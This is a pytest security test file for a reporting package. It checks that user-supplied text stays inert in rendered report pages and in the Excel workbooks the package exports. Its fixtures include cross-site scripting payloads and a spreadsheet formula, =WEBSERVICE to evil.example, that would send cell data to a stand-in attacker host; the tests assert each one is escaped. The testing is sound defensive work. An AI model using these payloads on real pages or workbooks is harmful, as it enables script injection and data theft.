"""User text stays text: Markdown and HTML on the pages, strings (not formulas) in the workbook."""

from __future__ import annotations

import zipfile

import openpyxl
import pandas as pd
import pytest
from nbconvert.filters.markdown_mistune import markdown2html_mistune
from test_finance_export import POSTS
from test_finance_model import hand_inputs, hand_paths

from send_analysis.finance import export
from send_analysis.finance import scenarios as sc
from send_analysis.report import table
from send_analysis.report.safe import inert, inert_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "Solihull <img src=x onerror=alert(2)>",
    "[click](javascript:alert(3))",
    "<a href='javascript:alert(4)'>x</a>",
    "**bold** _em_ `code` # not a heading",
    "line one\n\n# Heading\n<script>alert(5)</script>",
    "a & b < c > d \\ e",
    "data/<img onerror=alert(6)>/casework",
]


def _rendered(text: str) -> str:
    return markdown2html_mistune(f"Before {text} after")


@pytest.mark.parametrize("text", PAYLOADS)
def test_markdown_shows_user_text_as_typed(text):
    out = _rendered(inert(text))
    assert "<script" not in out and "<img" not in out and "<a " not in out
    assert "<h1" not in out and "<strong>" not in out and "<code>" not in out
    # the reader sees exactly what was typed (line breaks as spaces)
    import html
    import re
    shown = html.unescape(re.sub(r"<[^>]+>", "", out)).strip()
    assert shown == "Before " + re.sub(r"\s*\n+\s*", " ", text) + " after"


def test_without_escaping_the_payloads_are_live():
    # the renderer the pages use does pass raw HTML through: escaping is what stops it
    assert "<script>" in _rendered(PAYLOADS[0])
    assert "<img" in _rendered(PAYLOADS[1])


def test_html_and_tables_escape_user_text():
    assert inert_html('<img src="x" onerror=alert(1)>') == "&lt;img src=&quot;x&quot; onerror=alert(1)&gt;"
    df = pd.DataFrame({"<b>£m</b>": [1.5]}, index=["<script>alert(1)</script>"])
    out = table(df, decimals=1, caption="<img onerror=alert(2)>").to_html()
    assert "<script>" not in out and "<img" not in out and "<b>" not in out
    assert "&lt;script&gt;" in out and "1.5" in out


def test_workbook_writes_formula_like_text_as_text(tmp_path):
    inputs = {**hand_inputs(), "la_name": '=HYPERLINK("http://evil.example","click")'}
    lever = {**POSTS, "name": '=WEBSERVICE("http://evil.example/?"&A1)'}
    s = sc.validate_scenario({"name": "@SUM(A1)", "levers": [lever]}, source="posts.yaml",
                             first_fy="2021-22")
    r = sc.evaluate(inputs, hand_paths(), [s])
    path = export.write_dsg_plan(tmp_path / "plan.xlsx", inputs, r.unmitigated, [r],
                                 inputs_file="-la.yaml")
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in x or "<f " in x for x in sheets)
    wb = openpyxl.load_workbook(path)
    texts = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    values = {c.value for c in texts}
    assert any(v.startswith("=WEBSERVICE") for v in values)
    assert any(v.startswith("@SUM") for v in values)
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)
    summary = [c.value for row in wb["Cover"].iter_rows() for c in row if c.value]
    assert any("HYPERLINK" in str(v) for v in summary)


@pytest.mark.realdata
def test_page_09_source_note_keeps_a_hostile_path_inert(tmp_path):
    from test_casework_performance import hand_made

    from send_analysis.casework.io import write_casework
    from send_analysis.cohort.pipeline import casework_for_la

    folder = tmp_path / "<img src=x onerror=alert(1)>"
    write_casework(hand_made(), folder)
    la = casework_for_la("334", 2025, folder)
    out = _rendered(la.source_note)
    assert "<img" not in out and "&lt;img src=x onerror=alert(1)&gt;" in out


def test_the_render_path_cleans_every_output_whatever_a_page_displays():
    """Issue 19: a page that forgets to escape (a bare Styler, raw Markdown) is still inert."""
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
    from test_hostile_pack import live_markup

    from send_analysis.report import render

    styler_html = pd.DataFrame({"x": [1.5]}, index=["<script>alert(1)</script>"]).style.to_html()
    outputs = [
        new_output("display_data", data={"text/markdown": f"## Scenario {PAYLOADS[0]} {PAYLOADS[2]} "
                                                           '<b data-headline="k">£1.0m</b>'}),
        new_output("display_data", data={"text/html": styler_html + PAYLOADS[1] + PAYLOADS[3]}),
        new_output("display_data", data={"application/javascript": "alert(7)", "text/plain": "x"}),
    ]
    nb = new_notebook(cells=[new_markdown_cell("# Page\n\n## Section"),
                             new_code_cell("x", outputs=outputs)])
    page = render.render_html(nb, [("p.html", "P")], "p.html", "<footer></footer>")
    assert live_markup(page) == [] and "alert(7)" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page      # shown as typed
    assert '<b data-headline="k">£1.0m</b>' in page               # the pack's own marks kept
    assert "<table" in page                                          # tables stay tables
    # without the cleaning the same outputs are live
    raw = render.HTMLExporter(template_name="lab")
    raw.exclude_input = True
    assert live_markup(raw.from_notebook_node(nb)[0])


def test_a_heading_anchor_made_from_user_text_names_no_scheme():
    from send_analysis.report.safe import clean_html

    out = clean_html('<h3 id="x(javascript:alert(3))">t</h3>'
                     '<a class="anchor-link" href="#x(javascript:alert(3))">¶</a>')
    assert "javascript:" not in out
    assert 'id="x(javascript-alert(3))"' in out and 'href="#x(javascript-alert(3))"' in out
